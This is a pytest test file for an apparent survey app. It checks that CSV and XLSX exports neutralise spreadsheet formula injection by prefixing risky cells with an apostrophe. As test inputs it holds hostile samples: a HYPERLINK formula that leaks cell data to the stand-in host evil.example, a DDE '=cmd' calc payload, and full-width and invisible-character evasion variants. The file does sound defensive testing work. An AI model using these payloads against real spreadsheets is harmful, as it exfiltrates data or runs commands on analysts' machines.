"""Attack: a respondent types a spreadsheet formula as an answer.

`=HYPERLINK(...)` in an exported CSV runs (or phones home) when an analyst opens
the file in a spreadsheet. Every CSV/XLSX Chorus writes goes through one shared
function, `survey.spreadsheet.safe_cell`, which makes such text inert (OWASP's
CSV-injection advice: a leading apostrophe) and leaves real numbers alone.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook

from admin.portal.answers import answer_finding, answers_csv
from admin.reports import render
from survey.models import Organisation, db
from survey.spreadsheet import rows_csv, safe_cell
from tests.factories import (
    Respondent,
    csrf,
    make_user,
    sample_report,
    sign_in_enrolled,
    small_survey_document,
    store_the_week,
    unlocked_analyst,
)

HOSTILE = {
    "story": '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "adult_only": "@SUM(1)",
    "wanted-other": "+1",
}
EXPECTED = {
    "story": '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "adult_only": "'@SUM(1)",
    "wanted_other": "'+1",
}


def survey_allowing_negative_numbers():
    document = small_survey_document()
    apps = document["sections"][0]["questions"][2]
    apps["min"] = -10
    del document["sections"][0]["questions"][1]["show_if"]  # adult_only: always asked
    return document


@pytest.fixture
def hostile_response(app, make_open_survey):
    survey, code = make_open_survey(survey_allowing_negative_numbers())
    r = Respondent(app.test_client(), survey.slug)
    r.start()
    r.answer("you", {"age_band": "adult", "adult_only": HOSTILE["adult_only"], "apps": "-3"})
    r.pass_warning("e2ee")
    r.answer(
        "e2ee",
        {"wanted": ["_other"], "wanted-other": HOSTILE["wanted-other"], "story": HOSTILE["story"]},
    )
    r.submit()
    store_the_week(survey.slug)
    return survey, code


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    [row] = rows
    for column, expected in EXPECTED.items():
        assert row[column] == expected, column
    assert row["apps"] == "-3"  # a real number stays a number
    for value in row.values():
        assert not value or value[0] not in "=+-@\t\r" or value == "-3", value


def test_the_web_download_neutralises_every_text_cell(app, hostile_response):
    client = unlocked_analyst(app)
    response = client.get("/staff/surveys/small/responses.csv")
    assert response.status_code == 200
    assert_neutralised(list(csv.DictReader(io.StringIO(response.get_data(as_text=True)))))


def test_the_cli_export_neutralises_every_text_cell(app, hostile_response, tmp_path):
    _survey, code = hostile_response
    out = tmp_path / "answers.csv"
    result = app.test_cli_runner().invoke(
        args=["responses", "export", "small", "--out", str(out)], input=code + "\n"
    )
    assert result.exit_code == 0, result.output
    assert_neutralised(list(csv.DictReader(io.StringIO(out.read_text("utf-8")))))


# --- the shared function ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain text", "plain text"),
        ("", ""),
        # What a spreadsheet reads as the same signs (issue 20): full-width and other
        # compatibility forms, after whitespace, a line break or invisible characters.
        (
            '＝HYPERLINK("http://evil.example/?x="&A1)',
            '\'＝HYPERLINK("http://evil.example/?x="&A1)',
        ),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠SUM(A1)", "'＠SUM(A1)"),
        ("﹦1+1", "'﹦1+1"),
        ("\n=1+1", "'\n=1+1"),
        (" =1+1", "' =1+1"),
        ("\u3000＝1", "'\u3000＝1"),
        ("\u200b=1", "'\u200b=1"),
        ("\ufeff@SUM(A1)", "'\ufeff@SUM(A1)"),
        ("\x00=1", "'\x00=1"),
        ("|cmd", "'|cmd"),
        (" | calc", "' | calc"),
        ("=\u0338 not equal", "'=\u0338 not equal"),
        (" plain, after a space", " plain, after a space"),
        ("１２ apps", "１２ apps"),
        (-3, -3),
        (2.5, 2.5),
        (-0.5, -0.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_rows_csv_keeps_numbers_and_neutralises_text():
    text = rows_csv(["n", "mixed", "t"], [[-3, -1, "=1"], [4, "-1", "ok"]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["n", "mixed", "t"], ["-3", "-1", "'=1"], ["4", "'-1", "ok"]]


def test_published_tables_csv_and_xlsx_neutralise_labels():
    report = sample_report()
    report["survey"]["title"] = "=cmd|' /C calc'!A0"
    rows = list(csv.reader(io.StringIO(render.tables_csv(report))))
    assert ["Survey", "'=cmd|' /C calc'!A0"] in rows
    workbook = load_workbook(io.BytesIO(render.tables_xlsx(report)))
    cell = workbook["Report"]["B1"]
    # Typed as text, with the quote prefix: shown as written, never run.
    assert cell.value == "=cmd|' /C calc'!A0"
    assert cell.data_type == "s" and cell.quotePrefix


def test_published_tables_guard_full_width_and_hidden_formula_signs():
    report = sample_report()
    report["survey"]["title"] = '\n＝HYPERLINK("http://evil.example")'
    rows = list(csv.reader(io.StringIO(render.tables_csv(report))))
    assert ["Survey", '\'\n＝HYPERLINK("http://evil.example")'] in rows
    workbook = load_workbook(io.BytesIO(render.tables_xlsx(report)))
    cell = workbook["Report"]["B1"]
    assert cell.value == '\n＝HYPERLINK("http://evil.example")'
    assert cell.data_type == "s" and cell.quotePrefix


def test_portal_answers_csv_neutralises_company_text(app, make_published_report):
    version = make_published_report(["Example Messaging Ltd"])
    acme = db.session.query(Organisation).filter_by(name="Example Messaging Ltd").one()
    answer_finding(version, "f1", acme, "planned", date(2027, 3, 31), "-2+3", "a@acme.example")
    rows = list(csv.reader(io.StringIO(answers_csv(version, acme))))
    assert rows[1][4] == "'-2+3"


def test_the_invite_csv_goes_through_the_shared_function(app, make_open_survey, monkeypatch):
    make_open_survey(small_survey_document(slug="inv", invite_only=True))
    seen = []

    def spy(value):
        seen.append(value)
        return safe_cell(value)

    monkeypatch.setattr("survey.spreadsheet.safe_cell", spy)
    make_user("fac@example.org")
    client = app.test_client()
    sign_in_enrolled(client, "fac@example.org")
    path = "/staff/surveys/inv/invites"
    response = client.post(
        path, data={"csrf_token": csrf(client, path), "count": "2", "action": "csv"}
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert len(seen) >= 2


def test_every_spreadsheet_writer_uses_the_shared_function():
    """Any module that writes CSV or XLSX uses survey.spreadsheet: one place decides."""
    root = Path(__file__).resolve().parents[2]
    writers = re.compile(r"csv\.writer|csv\.DictWriter|\.to_csv\(|\.to_excel\(|Workbook\(")
    missing = []
    for path in [*root.joinpath("survey").rglob("*.py"), *root.joinpath("admin").rglob("*.py")]:
        source = path.read_text("utf-8")
        uses_shared = "survey.spreadsheet import" in source or path.name == "spreadsheet.py"
        if writers.search(source) and not uses_shared:
            missing.append(str(path.relative_to(root)))
    assert missing == []
